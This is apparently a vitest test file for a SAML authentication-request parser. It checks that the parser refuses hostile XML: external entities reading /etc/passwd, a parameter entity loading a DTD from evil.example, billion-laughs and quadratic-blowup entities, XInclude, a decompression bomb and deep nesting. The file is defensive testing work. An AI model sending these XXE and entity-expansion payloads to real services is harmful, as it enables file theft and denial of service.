import { DomainError, isContextMet } from '@gatehouse/domain'
import fc from 'fast-check'
import { describe, expect, it } from 'vitest'
import { anAuthnRequest, forPost, forRedirect } from '../testing/authn-requests.ts'
import { ACS, NOW, SP } from '../testing/sign-in-scene.ts'
import { readPostRequest, readRedirectRequest } from './read-authn-request.ts'

/** What the reader says against a message, by either binding; nothing when it takes it. */
function objection(xml: string | Uint8Array): string {
  const said = [() => readPostRequest(forPost(xml)), () => readRedirectRequest(forRedirect(xml))].map(saidBy)
  expect(said[0]).toBe(said[1])
  return said[0] ?? ''
}
function saidBy(read: () => unknown): string {
  try {
    read()
    return ''
  } catch (error) {
    if (error instanceof DomainError && error.problem.code === 'refused') return error.message
    throw error
  }
}

describe('a request of a service provider', () => {
  it('is read alike from a redirect and from a form', () => {
    const xml = anAuthnRequest(
      { Destination: 'https://gatehouse.example/saml/sso', ForceAuthn: '1', IsPassive: 'false' },
      `<saml:Issuer>${SP}</saml:Issuer><samlp:NameIDPolicy Format="urn:f"/><samlp:RequestedAuthnContext><saml:AuthnContextClassRef>urn:c</saml:AuthnContextClassRef></samlp:RequestedAuthnContext>`,
    )
    const request = readPostRequest(forPost(xml))
    expect(request).toEqual({
      id: '_request-1',
      issuer: SP,
      issuedAt: NOW,
      destination: 'https://gatehouse.example/saml/sso',
      assertionConsumerUrl: ACS,
      nameIdFormat: 'urn:f',
      forceAuthn: true,
      isPassive: false,
      contextClasses: ['urn:c'],
      contextComparison: 'exact',
    })
    expect(readRedirectRequest(forRedirect(xml))).toEqual(request)
  })

  it.each([
    [
      'D1-1',
      'an external entity',
      `<!DOCTYPE r [<!ENTITY x SYSTEM "file:///etc/passwd">]>${anAuthnRequest({}, '<saml:Issuer>&x;</saml:Issuer>')}`,
    ],
    [
      'D1-2',
      'a parameter entity',
      `<!DOCTYPE r [<!ENTITY % x SYSTEM "https://evil.example/x.dtd"> %x;]>${anAuthnRequest()}`,
    ],
    [
      'D1-3',
      'a billion laughs',
      `<!DOCTYPE r [<!ENTITY a "ha"><!ENTITY b "&a;&a;&a;&a;"><!ENTITY c "&b;&b;&b;&b;">]>${anAuthnRequest({}, '<saml:Issuer>&c;</saml:Issuer>')}`,
    ],
    [
      'D1-4',
      'a quadratic blow-up',
      `<!DOCTYPE r [<!ENTITY a "${'a'.repeat(5000)}">]>${anAuthnRequest({}, `<saml:Issuer>${'&a;'.repeat(500)}</saml:Issuer>`)}`,
    ],
    ['D1-6', 'an empty document type', `<!DOCTYPE r>${anAuthnRequest()}`],
    ['D1-6', 'a document type in other letters', `<!doctype r>${anAuthnRequest()}`],
    ['D1-6', 'CDATA', anAuthnRequest({}, `<saml:Issuer><![CDATA[${SP}]]></saml:Issuer>`)],
  ])('%s is refused with %s', (_, __, xml) => {
    expect(objection(xml)).toContain('a document type, an entity or CDATA')
  })

  it('D1-4 is refused with an entity that nobody has declared', () => {
    expect(objection(anAuthnRequest({}, '<saml:Issuer>&nbsp;</saml:Issuer>'))).not.toBe('')
  })
  it('D1-5 includes nothing by XInclude', () => {
    const include = '<xi:include xmlns:xi="http://www.w3.org/2001/XInclude" href="file:///etc/passwd" parse="text"/>'
    const request = readPostRequest(forPost(anAuthnRequest({}, `<saml:Issuer>${SP}${include}</saml:Issuer>`)))
    expect(request.issuer).toBe(SP)
  })
  it('D1-7 is refused when it grows beyond all measure as it is decompressed', () => {
    const bomb = forRedirect(Buffer.alloc(10_000_000, 'a'))
    expect(bomb.length).toBeLessThan(20_000)
    expect(saidBy(() => readRedirectRequest(bomb))).toContain('too large')
  })
  it.each([
    ['with blanks in it', forPost(anAuthnRequest()).replace('V', ' V')],
    [
      'in the alphabet of addresses',
      forPost(`${anAuthnRequest({ Extra: '???>>>' })}`)
        .replaceAll('+', '-')
        .replaceAll('/', '_'),
    ],
    ['encoded twice', forPost(forPost(anAuthnRequest()))],
    ['cut short', forPost(anAuthnRequest()).slice(0, -2)],
    ['empty', ''],
  ])('D1-8 is refused in base64 that is wrong: %s', (_, encoded) => {
    expect(saidBy(() => readPostRequest(encoded))).not.toBe('')
    expect(saidBy(() => readRedirectRequest(encoded))).not.toBe('')
  })
  it('D1-9 is refused in another encoding than UTF-8, declared or not', () => {
    const declared = (encoding: string): string => `<?xml version="1.0" encoding="${encoding}"?>${anAuthnRequest()}`
    expect(objection(declared('UTF-8'))).toBe('')
    for (const encoding of ['UTF-7', 'utf-16', 'ISO-8859-1', 'UTF-8-x', 'EBCDIC-CP-US'])
      expect(objection(declared(encoding))).toContain('only UTF-8')
    const utf16 = Buffer.from(`\ufeff${anAuthnRequest()}`, 'utf16le')
    expect(objection(utf16)).not.toBe('')
    expect(objection(Buffer.concat([Buffer.from(anAuthnRequest()), Buffer.from([0xff])]))).toContain('not UTF-8')
  })
  it('D1-10 is refused with two roots, text around the root, or another root', () => {
    expect(objection(anAuthnRequest() + anAuthnRequest())).not.toBe('')
    expect(objection(`${anAuthnRequest()}text`)).not.toBe('')
    expect(objection(anAuthnRequest().replaceAll('samlp:AuthnRequest', 'samlp:LogoutRequest'))).toContain(
      'AuthnRequest',
    )
    expect(objection(anAuthnRequest().replace('SAML:2.0:protocol', 'SAML:2.0:other'))).toContain('no AuthnRequest')
  })
  it('D1-11 is refused when it is large', () => {
    const large = anAuthnRequest({}, `<saml:Issuer>${SP}</saml:Issuer>${' '.repeat(200_000)}`)
    expect(saidBy(() => readPostRequest(forPost(large)))).toContain('longer')
    expect(saidBy(() => readRedirectRequest(forRedirect(large)))).toContain('too large')
  })
  it('D1-11 costs little to refuse, however small it was while it was compressed', () => {
    const wide = anAuthnRequest({}, '<a/>'.repeat(15_000))
    expect(forRedirect(wide).length).toBeLessThan(1_000)
    expect(saidBy(() => readRedirectRequest(forRedirect(wide)))).toContain('too large')
    expect(objection(anAuthnRequest({}, `<saml:Issuer>${SP}</saml:Issuer>${' '.repeat(14_000)}`))).toBe('')
  })
  it('D1-12 is refused when it is nested deeply', () => {
    const deep = (levels: number): string =>
      anAuthnRequest({}, `<saml:Issuer>${SP}</saml:Issuer>${'<a>'.repeat(levels)}${'</a>'.repeat(levels)}`)
    expect(objection(deep(10))).toBe('')
    expect(objection(deep(13))).toContain('too deeply')
    expect(objection(deep(1_500))).toContain('too deeply')
  })
  it('D1-13 is refused with processing instructions or comments, wherever they stand', () => {
    expect(objection(`<?xml-stylesheet href="x"?>${anAuthnRequest()}`)).toContain('processing instruction')
    expect(objection(anAuthnRequest({}, `<saml:Issuer>${SP}<?php x?></saml:Issuer>`))).toContain('processing')
    expect(objection(anAuthnRequest({}, `<saml:Issuer>https://sp.example<!-- -->.evil</saml:Issuer>`))).toContain(
      'comment',
    )
  })

  it.each([
    ['no ID', { ID: undefined }],
    ['an ID that is no name', { ID: '1"><x' }],
    ['another version', { Version: '1.1' }],
    ['no time', { IssueInstant: undefined }],
    ['a time that is none', { IssueInstant: '2027-02-31T09:00:00Z' }],
    ['a local time', { IssueInstant: '2027-03-01T09:00:00+01:00' }],
    ['an index that is no number', { AssertionConsumerServiceIndex: '-1' }],
    ['a flag that is neither', { ForceAuthn: 'maybe' }],
    ['another binding for the answer', { ProtocolBinding: 'urn:oasis:names:tc:SAML:2.0:bindings:HTTP-Artifact' }],
  ])('is refused with %s', (_, attributes: Readonly<Record<string, string | undefined>>) => {
    expect(objection(anAuthnRequest(attributes))).not.toBe('')
  })
  it.each(['\u0001', '\ufffe', '&#0;', '&#1;', '&#xD800;', '&#xFFFF;', '& ', '&&'])(
    'D1-35 is refused with %j, which no XML can hold, in a text or an attribute',
    (bad) => {
      expect(objection(anAuthnRequest({}, `<saml:Issuer>a${bad}b</saml:Issuer>`))).not.toBe('')
      expect(objection(anAuthnRequest({ Extra: `a${bad}b` }))).not.toBe('')
    },
  )
  it('is refused in XML 1.1, whose characters and line ends are others', () => {
    expect(objection(`<?xml version="1.1"?>${anAuthnRequest()}`)).toContain('XML 1.0')
    expect(objection(`<?xml version='1.0' encoding='utf-8'?>${anAuthnRequest()}`)).toBe('')
  })
  it.each([
    ['better', 'PasswordProtectedTransport', false],
    ['better', 'Password', true],
    ['minimum', 'Password', true],
    ['exact', 'PasswordProtectedTransport', true],
  ])('D1-30 says by which comparison it wants another kind of sign-in: %s than %s', (comparison, name, met) => {
    const asked = `<samlp:RequestedAuthnContext Comparison="${comparison}"><saml:AuthnContextClassRef>urn:oasis:names:tc:SAML:2.0:ac:classes:${name}</saml:AuthnContextClassRef></samlp:RequestedAuthnContext>`
    const xml = anAuthnRequest({}, `<saml:Issuer>${SP}</saml:Issuer>${asked}`)
    expect(isContextMet(readPostRequest(forPost(xml)))).toBe(met)
  })
  it('D1-30 does not take for nothing special what it does not understand', () => {
    const context = (inside: string): string =>
      `<saml:Issuer>${SP}</saml:Issuer><samlp:RequestedAuthnContext${inside}</samlp:RequestedAuthnContext>`
    const declared = '><saml:AuthnContextDeclRef>urn:smartcard</saml:AuthnContextDeclRef>'
    expect(isContextMet(readPostRequest(forPost(anAuthnRequest({}, context(declared)))))).toBe(false)
    expect(objection(anAuthnRequest({}, context(' Comparison="best">')))).toContain('Comparison')
  })
  it('is refused without an issuer, or with two', () => {
    expect(objection(anAuthnRequest({}, ''))).toContain('no Issuer')
    const two = `<saml:Issuer>${SP}</saml:Issuer>`.repeat(2)
    expect(objection(anAuthnRequest({}, two))).toContain('more than one Issuer')
  })
  it('D1-29 is not moved by Scoping, since we ask nobody else', () => {
    const scoped = `<saml:Issuer>${SP}</saml:Issuer><samlp:Scoping ProxyCount="9"><samlp:IDPList><samlp:IDPEntry ProviderID="https://evil.example"/></samlp:IDPList></samlp:Scoping>`
    expect(readPostRequest(forPost(anAuthnRequest({}, scoped)))).toEqual(readPostRequest(forPost(anAuthnRequest())))
  })
  it('never makes the reader fail in a way that nobody foresaw', () => {
    const pieces = fc.constantFrom(
      '<',
      '>',
      '&',
      '"',
      "'",
      '/',
      '!',
      '?',
      '[',
      ']',
      '-',
      'a',
      ':',
      '=',
      ' ',
      '\u0000',
      '\ud800',
    )
    const mangled = fc
      .tuple(fc.nat({ max: 400 }), fc.nat({ max: 20 }), fc.array(pieces, { maxLength: 8 }))
      .map(([at, cut, put]) => {
        const xml = anAuthnRequest()
        return xml.slice(0, at) + put.join('') + xml.slice(at + cut)
      })
    fc.assert(
      fc.property(fc.oneof(mangled, fc.string()), (xml) => {
        fc.pre(xml !== '')
        objection(xml)
      }),
      { numRuns: 500 },
    )
    fc.assert(
      fc.property(fc.base64String(), (text) => void saidBy(() => readRedirectRequest(text))),
      { numRuns: 300 },
    )
  })
})
